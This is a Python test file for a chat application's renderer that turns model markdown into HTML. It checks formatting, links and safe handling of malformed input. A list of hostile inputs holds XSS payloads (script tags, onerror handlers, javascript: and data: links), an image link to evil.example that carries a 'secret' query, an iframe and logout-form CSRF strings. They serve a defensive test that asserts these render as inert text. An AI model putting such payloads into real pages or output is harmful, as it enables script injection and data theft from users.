"""Model output as HTML: what people see of markdown, and nothing that a model could do with it."""

from html.parser import HTMLParser

import pytest

from chat.conversations.rendering import LONGEST, to_html


def test_markdown_becomes_markup():
    html = to_html("# 标题\n\n**粗** `x`\n第二行\n\n- 一\n- 二\n\n> 引用\n\n~~删~~")
    for part in (
        "<h1>标题</h1>",
        "<strong>粗</strong>",
        "<code>x</code><br>\n第二行",
        "<li>一</li>",
        "<s>删</s>",
    ):
        assert part in html
    assert "<blockquote>" in html


def test_a_code_block_carries_its_language_and_its_text_untouched():
    html = to_html('```python\nif a < b and "c":\n    pass\n```')
    assert '<div class="code"><div class="code-head"><span>python</span></div>' in html
    assert '<pre tabindex="0"><code class="language-python">if a &lt; b and' in html


def test_html_is_shown_as_it_was_written():
    assert to_html("<b>x</b>") == "<p>&lt;b&gt;x&lt;/b&gt;</p>\n"


def test_a_table_can_be_scrolled():
    assert to_html("|a|b|\n|-|-|\n|1|2|").startswith('<div class="table-wrap"><table>')


@pytest.mark.parametrize(
    ("text", "address"),
    [
        ("看https://example.com/a?b=1，然后", "https://example.com/a?b=1"),
        ("(https://example.com)", "https://example.com"),
        ("**https://example.com.**", "https://example.com"),
    ],
)
def test_a_bare_address_is_a_link_that_ends_where_the_sentence_goes_on(text, address):
    assert (
        f'<a href="{address}" target="_blank" rel="noopener noreferrer nofollow">{address}</a>'
        in to_html(text)
    )


@pytest.mark.parametrize(
    "text", ["manage.py", "me@example.com", "xhttps://example.com", "`https://example.com`"]
)
def test_not_everything_with_a_dot_is_a_link(text):
    assert "<a" not in to_html(text)


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/?q=secret)",
    '![x](https://evil.example/a.png "onload=alert(1)")',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '```"><script>alert(1)</script>\nx\n```',
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    '[x](https://a.example "><script>alert(1)</script>")',
    "<svg/onload=alert(1)>",
    "<style>body{display:none}</style>",
    "<iframe src=//evil.example></iframe>",
    "|<script>|\n|-|\n|<img src=x onerror=1>|",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    'https://a.example/"onmouseover="alert(1)',
    "[x](/logout/)",
    "[x](//evil.example)",
    "<form action=/logout/ method=post><button>",
    "\x00<script>\x00",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_text(text):
    """Parsed as a browser would: only known tags, no handlers, no addresses but absolute http(s)
    and mailto links.
    """

    class Reader(HTMLParser):
        def handle_starttag(self, tag, attributes):
            assert tag in {
                "p",
                "br",
                "a",
                "pre",
                "code",
                "div",
                "span",
                "table",
                "thead",
                "tbody",
                "tr",
                "th",
                "td",
            }
            for name, value in attributes:
                assert name in {"href", "title", "target", "rel", "class", "tabindex"}, name
                assert name != "href" or value.startswith(("https://", "http://", "mailto:")), value

    Reader().feed(to_html(text))


@pytest.mark.parametrize(
    "text", ["http://[::1", "[x](http://[bad)", "\ud800", "[" * 2000, ">" * 5000 + "x"]
)
def test_malformed_text_is_shown_rather_than_raised(text):
    assert isinstance(to_html(text), str)


def test_a_text_beyond_the_limit_is_shown_as_written():
    html = to_html("<b>" + "a" * LONGEST)
    assert html.startswith('<div class="code-plain"><pre class="wrap">&lt;b&gt;aaa')
